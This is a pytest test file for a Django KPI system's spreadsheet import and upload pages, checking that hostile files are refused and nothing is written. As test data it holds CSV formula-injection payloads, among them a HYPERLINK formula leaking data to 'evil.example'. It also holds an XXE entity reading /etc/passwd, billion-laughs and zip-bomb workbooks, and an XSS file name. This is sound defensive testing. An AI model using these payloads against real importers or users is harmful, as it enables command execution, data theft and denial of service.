"""Hostile files through the real upload pages: refused with a clear message, nothing written.

Two pages take spreadsheets: the register import (/kpis/import/, G&P) and the values upload
(/reporting/values/, officers and G&P; it previews, and writes only when the person confirms).
Each hostile file is posted through the page as a browser would. The page must answer 200 with
the form shown again and a message saying what is wrong, and nothing may be written: no KPI, no
value, no history record, no upload kept on disk waiting to be confirmed.

Formulas are text, never code: a CSV cell like `=cmd|'/C calc'!A0` is imported as those
characters (and neutralised again on every export); an XLSX formula cell gives only the value
Excel stored with it, never the formula.
"""

import csv
import io
import random
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import NoReverseMatch, reverse
from django.utils.html import escape

from kpis.register.models import CommitteeMembership, Directorate, Kpi, Priority, Service
from kpis.register.tests.factories import KpiFactory
from kpis.reporting.models import Measurement, Target
from kpis.reporting.services import Entry, measurement_save
from kpis.reporting.tests.factories import make_period, make_target
from pmf import spreadsheets
from pmf.spreadsheets import LimitExceeded, read_table, write_csv

REGISTER_HEADERS = [
    "reference",
    "name",
    "directorate",
    "level",
    "perspective",
    "metric_category",
    "frequency",
    "unit",
    "direction",
    "leading_or_lagging",
    "target_kind",
    "date_added",
]
VALUES_HEADERS = ["reference", "period", "value", "commentary", "action_plan"]
CMD = "=cmd|'/C calc'!A0"
FORMULA_TEXTS = [
    CMD,
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+1+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
]
EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8\x00\x00\x00\x00\x00\x00\x00"
    b"@\x00\x1a\x00This program cannot be run in DOS mode.\r\r\n$\x00\x00" + bytes(range(256)) * 4
)


def _values_upload_url() -> str | None:
    try:
        return reverse("values:upload")
    except NoReverseMatch:
        return None


VALUES_UPLOAD = _values_upload_url()
needs_values_upload = pytest.mark.skipif(
    VALUES_UPLOAD is None, reason="the values upload page (values:upload) is not built yet"
)


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


@pytest.fixture
def period(db):
    return make_period()  # 2025/26 Q2, open


@pytest.fixture
def kpi(owner, directorate, period):
    made = KpiFactory(
        reference="169", name="Recycling rate", lead_officer=owner, directorate=directorate
    )
    make_target(made, 80)
    return made


# Files ----------------------------------------------------------------------------------------


def register_row(**changes) -> list[str]:
    cells = {
        "reference": "500",
        "name": "Streets cleaned to standard",
        "directorate": "P&S",
        "level": "Operational",
        "perspective": "Residents",
        "metric_category": "Local authority",
        "frequency": "Quarterly",
        "unit": "%",
        "direction": "Higher is better",
        "leading_or_lagging": "Lagging",
        "target_kind": "Annual target",
        "date_added": "2024-04-01",
        **changes,
    }
    return [cells[header] for header in REGISTER_HEADERS]


def register_csv(description: str = "") -> bytes:
    """A valid register file (so only its size can be wrong)."""
    return write_csv(REGISTER_HEADERS + ["description"], [register_row() + [description]])


def values_row(**changes) -> list[str]:
    cells = {
        "reference": "169",
        "period": "2025/26 Q2",
        "value": "85",
        "commentary": "On track.",
        "action_plan": "",
        **changes,
    }
    return [cells[header] for header in VALUES_HEADERS]


def raw_csv(headers: list[str], rows: list[list[str]]) -> bytes:
    """A CSV as an attacker writes it: no neutralising quote in front of formulas."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(headers)
    writer.writerows(rows)
    return buffer.getvalue().encode()


def xlsx(headers: list[str], rows: list[list[str]]) -> bytes:
    """A workbook as Excel users make it; text starting with = is written as a formula cell."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(headers)
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def rewrite_member(data: bytes, member: str, change) -> bytes:
    """The same workbook with one of its XML parts rewritten by change(text) -> text."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            body = source.read(info.filename)
            if info.filename == member:
                body = change(body.decode()).encode()
            target.writestr(info.filename, body)
    return out.getvalue()


def with_cached_formula_values(data: bytes) -> bytes:
    """Give every formula cell of the first sheet the cached value Excel would have saved."""

    def change(xml: str) -> str:
        # openpyxl writes an empty value as <v /> with the standard library, <v></v> with lxml.
        cached = re.sub(r"<v ?/>|<v></v>", "<v>Click for details</v>", xml)
        return cached.replace('<c r="B2">', '<c r="B2" t="str">')

    return rewrite_member(data, "xl/worksheets/sheet1.xml", change)


def with_doctype(data: bytes, doctype: str, reference: str, placeholder: str) -> bytes:
    """The workbook with a DOCTYPE in its sheet and the placeholder cell's text replaced by an
    entity reference (billion laughs, external entities)."""

    def change(xml: str) -> str:
        end = xml.index("?>") + 2 if xml.startswith("<?xml") else 0
        body = xml[end:].replace(f"<t>{placeholder}</t>", f"<t>{reference}</t>")
        assert body != xml[end:], "placeholder not found"
        return xml[:end] + doctype + body

    return rewrite_member(data, "xl/worksheets/sheet1.xml", change)


def billion_laughs(data: bytes, placeholder: str) -> bytes:
    entities = ['<!ENTITY lol0 "lolololololololololol">']
    entities += [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    return with_doctype(data, f"<!DOCTYPE lolz [{''.join(entities)}]>", "&lol9;", placeholder)


def external_entity(data: bytes, placeholder: str) -> bytes:
    doctype = '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    return with_doctype(data, doctype, "&xxe;", placeholder)


def zip_bomb_real() -> bytes:
    """8 MB of zeros deflated to about 8 KB: a ratio of about 1,000."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (8 * 1024 * 1024))
    return buffer.getvalue()


def zip_bomb_declared() -> bytes:
    """A tiny workbook whose sheet's headers claim it unpacks to nearly 4 GB."""
    data = bytearray(xlsx(["reference"], [["1"]]))
    huge = (0xFFFFFFF0).to_bytes(4, "little")
    name = b"xl/worksheets/sheet1.xml"
    for signature, size_at, name_at in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        start = 0
        while (start := data.find(signature, start)) != -1:
            if data[start + name_at : start + name_at + len(name)] == name:
                data[start + size_at : start + size_at + 4] = huge
            start += 4
    return bytes(data)


def random_bytes(size: int = 4096) -> bytes:
    return random.Random(7).randbytes(size)


def truncated_workbook() -> bytes:
    whole = xlsx(REGISTER_HEADERS, [register_row()])
    return whole[: len(whole) // 2]


def zip_that_is_not_a_workbook() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("readme.txt", "Not a workbook.")
    return buffer.getvalue()


# (id, file name, content, words the message must contain), for both pages.
def hostile_files(headers: list[str], row: list[str], placeholder: str):
    good_workbook = xlsx(headers, [row])
    return [
        ("exe", "report.exe", EXE, None),  # the page's own wording for a wrong type
        ("txt", "values.txt", raw_csv(headers, [row]), None),
        ("no-extension", "values", raw_csv(headers, [row]), None),
        ("exe-renamed-xlsx", "values.xlsx", EXE, "not a real Excel (.xlsx) workbook"),
        ("exe-renamed-csv", "values.csv", EXE, "not a text CSV file"),
        ("random-bytes-xlsx", "values.xlsx", random_bytes(), "not a real Excel (.xlsx) workbook"),
        ("random-bytes-csv", "values.csv", random_bytes(), "not a text CSV file"),
        ("empty-csv", "values.csv", b"", "empty"),
        ("truncated-xlsx", "values.xlsx", truncated_workbook(), "not a real Excel (.xlsx)"),
        ("zip-not-workbook", "values.xlsx", zip_that_is_not_a_workbook(), "Excel workbook"),
        ("zip-bomb-real", "values.xlsx", zip_bomb_real(), "unpacks to far more data"),
        ("zip-bomb-declared", "values.xlsx", zip_bomb_declared(), "unpacks to far more data"),
        (
            "billion-laughs",
            "values.xlsx",
            billion_laughs(good_workbook, placeholder),
            "could not be read",
        ),
        (
            "external-entity",
            "values.xlsx",
            external_entity(good_workbook, placeholder),
            "could not be read",
        ),
    ]


REGISTER_FILES = hostile_files(REGISTER_HEADERS, register_row(), "Streets cleaned to standard")
VALUES_FILES = hostile_files(VALUES_HEADERS, values_row(), "On track.")


def test_the_hostile_files_are_what_they_claim_to_be():
    """The bombs really are bombs, so the refusals below test the guard and not a typo."""
    for data in (zip_bomb_real(), zip_bomb_declared()):
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            unpacked = sum(member.file_size for member in archive.infolist())
        assert unpacked > 5 * 1024 * 1024 and unpacked > 100 * len(data)
    assert len(zip_bomb_real()) < 20_000
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx(["name"], [[CMD]])))
    assert workbook.active["A2"].data_type == "f"  # openpyxl stores it as a formula cell


# Checking that nothing was written ------------------------------------------------------------


def database_state() -> dict[str, int]:
    return {
        "kpis": Kpi.objects.count(),
        "kpi history": Kpi.history.count(),
        "kpi priorities history": Kpi.history.model.priorities.model.objects.count(),
        "committee memberships": CommitteeMembership.objects.count(),
        "directorates": Directorate.objects.count(),
        "services": Service.objects.count(),
        "priorities": Priority.objects.count(),
        "values": Measurement.objects.count(),
        "value history": Measurement.history.count(),
        "targets": Target.objects.count(),
    }


def waiting_uploads(media_root: Path) -> list[Path]:
    folder = Path(media_root) / "uploads"
    return sorted(p for p in folder.rglob("*") if p.is_file()) if folder.exists() else []


def signed_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def post_file(client: Client, url: str, name: str, data: bytes):
    return client.post(url, {"file": SimpleUploadedFile(name, data)})


def assert_refused(response, must_say: str | None, before: dict, media_root) -> str:
    body = response.content.decode()
    assert response.status_code == 200
    assert 'type="file"' in body, "the form is shown again"
    assert "govuk-error-summary" in body, "a GOV.UK error summary says what is wrong"
    if must_say:
        assert must_say in body
    assert database_state() == before
    assert waiting_uploads(media_root) == []
    assert "Confirm import" not in body
    return body


# The register import -------------------------------------------------------------------------


REGISTER_TYPE_MESSAGE = "is not a CSV or XLSX file"


@pytest.mark.parametrize(
    ("name", "data", "must_say"),
    [pytest.param(name, data, say, id=case) for case, name, data, say in REGISTER_FILES],
)
def test_the_register_import_refuses_a_hostile_file_and_writes_nothing(
    gp, directorate, media, name, data, must_say
):
    before = database_state()
    response = post_file(signed_in(gp), reverse("kpis:import"), name, data)

    assert_refused(response, must_say or REGISTER_TYPE_MESSAGE, before, media)


def test_the_register_import_refuses_a_file_over_the_size_limit(gp, directorate, media, settings):
    settings.MAX_UPLOAD_BYTES = 1_048_576
    big = register_csv(description="x" * settings.MAX_UPLOAD_BYTES)
    before = database_state()

    response = post_file(signed_in(gp), reverse("kpis:import"), "register.csv", big)

    assert_refused(response, "The file must be smaller than 1 MB", before, media)


@pytest.mark.parametrize("text", FORMULA_TEXTS)
def test_the_register_import_keeps_a_csv_formula_as_text_and_exports_it_neutralised(
    gp, directorate, text
):
    client = signed_in(gp)
    response = post_file(
        client,
        reverse("kpis:import"),
        "register.csv",
        raw_csv(REGISTER_HEADERS, [register_row(name=text)]),
    )

    assert response.status_code == 200
    assert Kpi.objects.get(reference="500").name == text  # the characters, not a result
    exported = client.get(reverse("kpis:export", args=["csv"])).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(exported)))
    assert rows[1][1] == "'" + text
    page = client.get(reverse("kpis:detail", args=["500"])).content.decode()
    assert escape(text) in page  # shown as text, escaped


def test_the_register_import_never_stores_an_xlsx_formula_only_its_cached_value(gp, directorate):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
    data = with_cached_formula_values(
        xlsx(REGISTER_HEADERS, [register_row(name=formula, reference="501")])
    )

    response = post_file(signed_in(gp), reverse("kpis:import"), "register.xlsx", data)

    assert response.status_code == 200
    assert Kpi.objects.get(reference="501").name == "Click for details"
    assert not Kpi.objects.filter(name__contains="HYPERLINK").exists()


def test_the_register_import_refuses_an_xlsx_formula_without_a_cached_value(gp, directorate, media):
    data = xlsx(REGISTER_HEADERS, [register_row(name="=1+1")])  # openpyxl saves no cached value
    before = database_state()

    response = post_file(signed_in(gp), reverse("kpis:import"), "register.xlsx", data)

    body = assert_refused(response, "The file was not imported", before, media)
    assert "name" in body


def test_the_register_import_shows_a_hostile_file_name_as_text(gp, directorate):
    name = '<img src=x onerror="alert(1)">.exe'
    response = post_file(signed_in(gp), reverse("kpis:import"), name, EXE)

    body = response.content.decode()
    assert "<img src=x" not in body
    assert "&lt;img src=x" in body
    assert not Kpi.objects.exists()


def test_the_register_import_neither_stores_nor_fails_on_a_nul_character(gp, directorate, media):
    client = signed_in(gp)
    client.raise_request_exception = False
    data = raw_csv(REGISTER_HEADERS, [register_row(name="Streets\x00cleaned")])

    response = post_file(client, reverse("kpis:import"), "register.csv", data)

    assert response.status_code == 200
    assert not any("\x00" in name for name in Kpi.objects.values_list("name", flat=True))


# The values upload ---------------------------------------------------------------------------

VALUES_TYPE_MESSAGE = "The file must be a CSV or Excel (.xlsx) file"


@needs_values_upload
@pytest.mark.parametrize(
    ("name", "data", "must_say"),
    [pytest.param(name, data, say, id=case) for case, name, data, say in VALUES_FILES],
)
def test_the_values_upload_refuses_a_hostile_file_and_writes_nothing(
    owner, kpi, media, name, data, must_say
):
    before = database_state()
    response = post_file(signed_in(owner), VALUES_UPLOAD, name, data)

    assert_refused(response, must_say or VALUES_TYPE_MESSAGE, before, media)


@needs_values_upload
def test_the_values_upload_refuses_a_file_over_the_size_limit(owner, kpi, media, settings):
    settings.MAX_UPLOAD_BYTES = 1_048_576
    big = write_csv(VALUES_HEADERS, [values_row(commentary="x" * (settings.MAX_UPLOAD_BYTES + 10))])
    before = database_state()

    response = post_file(signed_in(owner), VALUES_UPLOAD, "values.csv", big)

    assert_refused(response, "The file must be smaller than 1 MB", before, media)


@needs_values_upload
@pytest.mark.parametrize("text", FORMULA_TEXTS)
def test_the_values_upload_previews_a_csv_formula_as_text_writing_nothing_until_confirmed(
    owner, kpi, period, directorate, media, text
):
    client = signed_in(owner)
    before = database_state()

    preview = post_file(
        client, VALUES_UPLOAD, "values.csv", raw_csv(VALUES_HEADERS, [values_row(commentary=text)])
    )

    assert preview.status_code == 200
    assert "Confirm import" in preview.content.decode()
    assert database_state() == before  # a preview writes nothing
    token = client.session["values_import"]["token"]
    done = client.post(reverse("values:confirm"), {"token": token})
    assert done.status_code == 302
    stored = Measurement.objects.get(kpi=kpi, period=period)
    assert stored.commentary == text  # kept as the characters typed
    assert stored.status == Measurement.Status.DRAFT
    export_url = reverse("scorecards:directorate_export", args=[directorate.pk, period.pk, "csv"])

    def exported_commentary() -> list[str]:
        export = client.get(export_url)
        rows = list(csv.DictReader(io.StringIO(export.content.decode("utf-8-sig"))))
        return [row["Commentary"] for row in rows if row["KPI reference"] == "169"]

    assert exported_commentary() == [""]  # a draft is nobody's but its owner's
    # Once submitted it is reported (provisional), and every export neutralises it again.
    measurement_save(
        kpi=kpi,
        period=period,
        by=owner,
        entry=Entry(**{name: getattr(stored, name) for name in Entry.FIELDS}),
        expected_version=stored.version,
        submit=True,
    )
    assert exported_commentary() == ["'" + text]


@needs_values_upload
def test_the_values_upload_never_stores_an_xlsx_formula_only_its_cached_value(
    owner, kpi, period, media
):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
    headers = ["reference", "commentary", "period", "value"]
    data = with_cached_formula_values(xlsx(headers, [["169", formula, "2025/26 Q2", "85"]]))
    client = signed_in(owner)

    preview = post_file(client, VALUES_UPLOAD, "values.xlsx", data)

    assert preview.status_code == 200
    assert "HYPERLINK" not in preview.content.decode()
    client.post(reverse("values:confirm"), {"token": client.session["values_import"]["token"]})
    assert Measurement.objects.get(kpi=kpi, period=period).commentary == "Click for details"


@needs_values_upload
def test_the_values_upload_treats_an_xlsx_value_formula_without_a_cached_value_as_blank(
    owner, kpi, period, media
):
    """Formulas are never calculated (docs/import-formats.md): =50+35 is not 85."""
    data = xlsx(VALUES_HEADERS, [values_row(value="=50+35")])
    client = signed_in(owner)

    preview = post_file(client, VALUES_UPLOAD, "values.xlsx", data)

    assert preview.status_code == 200
    assert not Measurement.objects.exists()
    if "values_import" in client.session:
        client.post(reverse("values:confirm"), {"token": client.session["values_import"]["token"]})
    assert not Measurement.objects.filter(value=85).exists()


@needs_values_upload
def test_the_values_upload_refuses_a_long_number_with_many_decimal_places(owner, kpi, media):
    client = signed_in(owner)
    client.raise_request_exception = False
    before = database_state()
    data = write_csv(VALUES_HEADERS, [values_row(value="9" * 30 + ".12345")])

    response = post_file(client, VALUES_UPLOAD, "values.csv", data)

    assert_refused(response, None, before, media)  # whatever the wording of the fix


@needs_values_upload
def test_the_values_upload_neither_stores_nor_fails_on_a_nul_character(owner, kpi, media):
    client = signed_in(owner)
    client.raise_request_exception = False
    data = raw_csv(VALUES_HEADERS, [values_row(commentary="On\x00track")])

    preview = post_file(client, VALUES_UPLOAD, "values.csv", data)
    assert preview.status_code == 200
    if "values_import" in client.session:
        token = client.session["values_import"]["token"]
        done = client.post(reverse("values:confirm"), {"token": token})
        assert done.status_code in (200, 302)
    stored = Measurement.objects.values_list("commentary", flat=True)
    assert not any("\x00" in text for text in stored)


@needs_values_upload
def test_the_values_upload_shows_a_hostile_file_name_as_text(owner, kpi, media):
    name = '<img src=x onerror="alert(1)">.csv'
    response = post_file(
        signed_in(owner), VALUES_UPLOAD, name, write_csv(VALUES_HEADERS, [values_row()])
    )

    body = response.content.decode()
    assert response.status_code == 200
    assert "<img src=x" not in body
    assert "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;.csv" in body
    assert not Measurement.objects.exists()


# Budgets: files built to cost minutes of CPU ----------------------------------------------------
#
# Each is refused with a message naming the limit, and reading stops as soon as the file is seen
# to be over it: `LimitExceeded.rows_read` is how many of the sheet's rows were read (0: refused
# from counts in the XLSX's XML, before either reader parsed the sheet).


def bomb_workbook(sheet_rows: str, *, repeat: int) -> bytes:
    """A workbook whose sheet is `sheet_rows` repeated, deflated: small to upload, big inside.

    Under 5 MB unpacked, so the ratio check (which guards larger parts) lets it through, as the
    attacker's 2.7 MB file unpacking to 195 MB at a ratio of 72 was let through."""
    source = zipfile.ZipFile(io.BytesIO(xlsx(["reference"], [])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            body = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                text = body.decode()
                body = text.replace("</sheetData>", sheet_rows * repeat + "</sheetData>").encode()
            target.writestr(info.filename, body)
    return out.getvalue()


def row_bomb() -> bytes:
    """150,000 rows of one cell each, in a 20 KB file."""
    return bomb_workbook("<row><c><v>1</v></c></row>", repeat=150_000)


def wide_workbook(columns: int = 300) -> bytes:
    """One row of `columns` cells without references: openpyxl reads it (calamine would place
    cells without references differently)."""
    return bomb_workbook("<row>" + "<c><v>1</v></c>" * columns + "</row>", repeat=1)


def many_headings_csv(count: int = 100_000) -> bytes:
    return ",".join(f"heading {n}" for n in range(count)).encode() + b"\r\nx\r\n"


def test_the_budget_bombs_are_what_they_claim_to_be():
    bomb = row_bomb()
    with zipfile.ZipFile(io.BytesIO(bomb)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    assert len(bomb) < 40_000 and 3_000_000 < len(sheet) < 5 * 1024 * 1024
    assert sheet.count(b"<row>") == 150_000
    assert len(many_headings_csv().split(b"\r\n")[0].split(b",")) == 100_000


def test_a_zip_bomb_of_rows_is_refused_from_its_xml_before_any_reader_parses_it():
    with pytest.raises(LimitExceeded) as refused:
        read_table(row_bomb(), "values.xlsx")
    assert refused.value.limit == "rows"
    assert refused.value.rows_read == 0
    assert "The worksheet has 150,001 rows" in str(refused.value)
    assert "at most 100,000" in str(refused.value)


def test_a_sheet_too_wide_is_refused_at_its_first_wide_row(reader_openpyxl):
    with pytest.raises(LimitExceeded) as refused:
        read_table(wide_workbook(), "values.xlsx")
    assert refused.value.limit == "columns"
    assert refused.value.rows_read == 2  # the heading row, then the wide one
    assert "Row 2 has values in more than 200 columns" in str(refused.value)


def test_a_csv_of_100000_headings_is_refused_at_its_heading_row():
    with pytest.raises(LimitExceeded) as refused:
        read_table(many_headings_csv(), "values.csv")
    assert refused.value.limit == "columns"
    assert refused.value.rows_read == 1
    assert "Row 1 has values in more than 200 columns" in str(refused.value)


@pytest.fixture
def reader_openpyxl(monkeypatch):
    """Proof that the wide sheet went to openpyxl, whose rows are read one at a time."""
    used = []
    real = spreadsheets._openpyxl_rows
    monkeypatch.setattr(spreadsheets, "_openpyxl_rows", lambda data: used.append(1) or real(data))
    yield
    assert used


BUDGET_FILES = [
    ("row-bomb", "values.xlsx", row_bomb, "The worksheet has 150,001 rows"),
    ("too-wide", "values.xlsx", wide_workbook, "more than 200 columns"),
    ("100000-headings", "values.csv", many_headings_csv, "more than 200 columns"),
]


@pytest.mark.parametrize(
    ("name", "make", "must_say"),
    [pytest.param(name, make, say, id=case) for case, name, make, say in BUDGET_FILES],
)
def test_the_register_import_refuses_a_file_over_a_limit_saying_which(
    gp, directorate, media, name, make, must_say
):
    before = database_state()
    response = post_file(signed_in(gp), reverse("kpis:import"), name, make())
    assert_refused(response, must_say, before, media)


@needs_values_upload
@pytest.mark.parametrize(
    ("name", "make", "must_say"),
    [pytest.param(name, make, say, id=case) for case, name, make, say in BUDGET_FILES],
)
def test_the_values_upload_refuses_a_file_over_a_limit_saying_which(
    owner, kpi, media, name, make, must_say
):
    before = database_state()
    response = post_file(signed_in(owner), VALUES_UPLOAD, name, make())
    assert_refused(response, must_say, before, media)


def test_unknown_headings_are_listed_with_few_guesses_and_at_most_100_problems(
    gp, directorate, media
):
    made_up = [f"made up heading {n}" for n in range(150)]
    data = raw_csv(REGISTER_HEADERS + made_up, [register_row() + [""] * 150])
    before = database_state()

    response = post_file(signed_in(gp), reverse("kpis:import"), "register.csv", data)

    body = assert_refused(response, "This is not a register column", before, media)
    table = body[body.index('id="import-errors"') :]
    assert table.count("This is not a register column") == 100
    assert "(the first 100 of 150)" in body
    assert "And 50 more problems" in body
    assert body.count("Did you mean") <= 20


@needs_values_upload
def test_the_values_upload_shows_the_first_100_problems_and_how_many_more(owner, kpi, media):
    rows = [values_row(value="lots") for _ in range(1)] + [
        values_row(reference=f"NO-{n}") for n in range(149)
    ]
    before = database_state()

    response = post_file(
        signed_in(owner), VALUES_UPLOAD, "values.csv", raw_csv(VALUES_HEADERS, rows)
    )

    body = assert_refused(response, "is not a number", before, media)
    errors = body[
        body.index('id="import-errors"') : body.index("</table>", body.index('id="import-errors"'))
    ]
    assert errors.count('<tr class="govuk-table__row"><td') == 100
    assert "And 50 more problems" in body


# Text encodings ---------------------------------------------------------------------------------


@needs_values_upload
def test_the_values_upload_reads_a_utf16_csv(owner, kpi, period, media):
    text = "reference,period,value,commentary\r\n169,2025/26 Q2,85,Café – on track £5\r\n"
    client = signed_in(owner)

    preview = post_file(client, VALUES_UPLOAD, "values.csv", text.encode("utf-16"))

    assert preview.status_code == 200 and "Confirm import" in preview.content.decode()
    client.post(reverse("values:confirm"), {"token": client.session["values_import"]["token"]})
    assert Measurement.objects.get(kpi=kpi, period=period).commentary == "Café – on track £5"


@needs_values_upload
def test_the_values_upload_refuses_shift_jis_rather_than_garble_it(owner, kpi, media):
    text = "reference,period,value,commentary\r\n169,2025/26 Q2,85,日本\r\n"  # “ú–{ in 1252
    before = database_state()

    response = post_file(signed_in(owner), VALUES_UPLOAD, "values.csv", text.encode("shift_jis"))

    assert_refused(response, "save it as “CSV UTF-8", before, media)


def test_the_register_import_refuses_shift_jis_rather_than_garble_it(gp, directorate, media):
    data = raw_csv(REGISTER_HEADERS, [register_row(name="テスト")]).decode().encode("shift_jis")
    before = database_state()

    response = post_file(signed_in(gp), reverse("kpis:import"), "register.csv", data)

    assert_refused(response, "does not read as Windows-1252", before, media)
